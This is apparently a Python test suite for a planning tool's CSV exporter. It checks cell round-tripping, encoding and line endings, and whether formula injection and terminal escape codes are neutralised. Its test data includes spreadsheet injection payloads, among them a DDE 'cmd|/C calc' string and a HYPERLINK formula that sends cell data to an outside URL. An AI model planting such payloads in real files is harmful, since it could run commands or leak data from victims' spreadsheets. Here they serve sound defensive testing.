"""Tables as CSV, read back with the standard library: signs, formulas, every cell."""

import csv
import io
from datetime import date
from decimal import Decimal

import folder
import pytest
from hypothesis import given
from hypothesis import strategies as st
from registers_text import FILES

from plangen.exporters.csv import EXPORTER, field, shown
from plangen.kinds.sheets.every import sheets

TODAY = date(2026, 3, 16)
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
EVIL = (
    '=HYPERLINK("https://example.org/?x="&A1, "open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,9)",
    "  =1+1",
    "\uff1d1+1",
    "fine; =1+1",
    "fine;-1",
)


def table(name: str, files: dict[str, str]) -> list[list[str]]:
    data = EXPORTER.files(folder.facts(files, TODAY))[f"data/{name}.csv"]
    return parsed(data)


def parsed(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), strict=True))


def titled(title: str) -> dict[str, str]:
    quoted = title.replace('"', '\\"')
    return {
        "plans/p.md": f'---\nplan: p\nstart: 2026-03-02\ntasks:\n- {{id: a, title: "{quoted}"}}\n---\n'
    }


def test_every_cell_comes_back() -> None:
    facts = folder.facts(FILES, TODAY)
    found = EXPORTER.files(facts)
    for sheet in sheets(facts):
        head, *rows = parsed(found[f"data/{sheet.name}.csv"])
        assert head == [column.name for column in sheet.columns]
        assert len(rows) == len(sheet.rows)
        for row, cells in zip(rows, sheet.rows, strict=True):
            for text, cell in zip(row, cells, strict=True):
                if isinstance(cell, bool):
                    assert text == str(cell).lower()
                elif isinstance(cell, date):
                    assert date.fromisoformat(text) == cell
                elif isinstance(cell, int | float | Decimal):
                    assert Decimal(text) == Decimal(str(cell))
                    assert "E" not in text.upper()
                else:
                    assert text.replace("'", "") == (cell or "").replace("'", "")


def test_a_file_begins_with_a_mark_and_ends_each_record_with_both_signs() -> None:
    data = EXPORTER.files(folder.facts(FILES, TODAY))["data/plans.csv"]
    assert data.startswith(b"\xef\xbb\xbfid,title,")
    assert data.count(b"\r\n") == 3
    assert data.endswith(b"\r\n")
    assert "Größerer Quay 码头".encode() in data


@pytest.mark.parametrize("title", EVIL)
def test_no_cell_of_text_is_a_formula(title: str) -> None:
    head, row = table("tasks", titled(title))
    found = row[head.index("title")]
    assert found != title
    assert found.replace("'", "") == title.replace("'", "")


@given(st.text(st.sampled_from([*"=+-@;,'\"|a1 \t\r\n", "\uff1d", "\u00a0"]), max_size=12))
def test_wherever_a_spreadsheet_ends_a_cell_no_formula_begins(text: str) -> None:
    found = shown(text)
    assert not found.startswith(STARTS)
    for end in ";\t\r\n":
        assert not any(cell.lstrip(" \u00a0").startswith(STARTS[:4]) for cell in found.split(end))
    assert found.replace("'", "") == text.replace("'", "")


@given(
    st.text(st.sampled_from([*"=+-@;,'\"|a1 \t\r\n", "\uff1d", "\u00a0"]), max_size=12) | st.text()
)
def test_a_field_is_read_as_the_text_it_shows(text: str) -> None:
    data = f"{field(text)},{field('end')}\r\n".encode("utf-8", "replace")
    assert parsed(data) == [[shown(text).encode("utf-8", "replace").decode(), "end"]]


def test_numbers_stay_numbers_whatever_their_sign() -> None:
    head, row = table("measures", FILES)
    assert row[head.index("baseline")] == "-3.5"
    files = folder.plan("## Tasks\n\n- [ ] Late {#late 9d by:2026-03-03 finish-on:2026-03-04}\n")
    head, row = table("tasks", files)
    assert row[head.index("total_float")].startswith("-")


def test_no_sign_that_a_terminal_obeys_comes_out() -> None:
    data = EXPORTER.single(folder.facts(titled("red \\e[31m \\u0007 \\u009b \\ud800"), TODAY))
    text = data.decode("utf-8-sig")
    assert "red" in text
    assert not [sign for sign in text if ord(sign) in {*range(9), *range(14, 32), *range(127, 160)}]


def test_one_file_is_the_tasks() -> None:
    facts = folder.facts(FILES, TODAY)
    assert EXPORTER.single(facts) == EXPORTER.files(facts)["data/tasks.csv"]


def test_without_plans_every_table_has_its_head() -> None:
    found = EXPORTER.files(folder.facts({}, TODAY))
    assert len(found) == len([*sheets(folder.facts({}, TODAY))])
    assert all(len(parsed(data)) == 1 for data in found.values())
